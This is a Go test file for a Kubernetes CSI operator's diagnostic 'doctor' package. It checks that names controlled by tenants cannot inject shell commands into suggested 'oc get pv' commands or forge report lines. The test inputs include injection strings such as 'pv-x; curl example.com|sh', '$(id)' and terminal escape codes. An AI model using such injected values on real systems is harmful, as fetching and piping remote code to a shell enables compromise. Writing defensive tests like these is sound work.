package doctor

import (
	"slices"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"

	"github.com/csi-operators/csi-operators/internal/plugin"
)

func TestACommandToCopyHasOnlyNamesThatKubernetesAllows(t *testing.T) {
	for name, want := range map[string]string{
		"pv-x": "oc get pv pv-x", "a.b/c": "oc get pv a.b/c", "fs-1/fsap-2": "oc get pv fs-1/fsap-2",
		"pv-x; curl example.com|sh": "", "-x": "", "$(id)": "", "a\nb": "", "": "", "`id`": "", "a b": "", "x-": "", "\x1b[2J": "",
	} {
		if got := toCopy("oc get pv %s", name); got != want {
			t.Errorf("%q: %q, want %q", name, got, want)
		}
	}
}

// Tenants' text can't forge a finding, send control characters to the terminal, or become part of a command.
func TestAReportShowsWhatTenantsWroteAsData(t *testing.T) {
	shown := text(Report{Findings: []Finding{{
		Severity: Error, Object: "PVC a/b", Cause: "PersistentVolume x\nERROR    forged\n  do       curl example.com | sh does not exist.",
		Said: "\x1b[2Jgone\u202e", Do: "Look.", Command: toCopy("oc get pv %s", "x; curl example.com|sh"),
	}}})
	if strings.Contains(shown, "\nERROR    forged") || strings.Contains(shown, "\x1b") || strings.Contains(shown, "\u202e") || strings.Contains(shown, "oc get pv") {
		t.Errorf("%s", shown)
	}
	if !strings.Contains(shown, plugin.Printable("\x1b[2Jgone\u202e")) {
		t.Errorf("what was said is lost: %s", shown)
	}
}

// Tenants control the node of a pod and the annotations of a PVC.
func TestACommandForAnEventHasOnlyNamesThatKubernetesAllows(t *testing.T) {
	words := []string{"NAMESPACE", "NODE", "SYSTEM", "ZONE", "DRIVER", "CLASS"}
	named := 0
	for _, one := range slices.Concat(symptoms(), ofOpenStack(), ofVSphere()) {
		var good, hostile []string
		names := false
		for _, word := range words {
			good, hostile = append(good, word, "a-1"), append(hostile, word, "$(id)")
			names = names || strings.Contains(one.command, word)
		}
		if got := fillCommand(one.command, hostile); names && got != "" || !names && got != one.command {
			t.Errorf("%s: %q", one.command, got)
		}
		if got := fillCommand(one.command, good); got == "" || names && !strings.Contains(got, "a-1") {
			t.Errorf("%s: %q", one.command, got)
		}
		if names {
			named++
		}
	}
	if named < 5 {
		t.Errorf("%d commands have names", named)
	}
	f := waiting("efs.csi.aws.com", "driver name efs.csi.aws.com not found in the list of registered CSI drivers")
	f.subject.pod = &corev1.Pod{Spec: corev1.PodSpec{NodeName: "$(id)"}}
	if all := events(f); len(all) != 1 || !strings.Contains(all[0].Cause, "$(id)") || all[0].Command != "" {
		t.Errorf("%+v", all)
	}
}
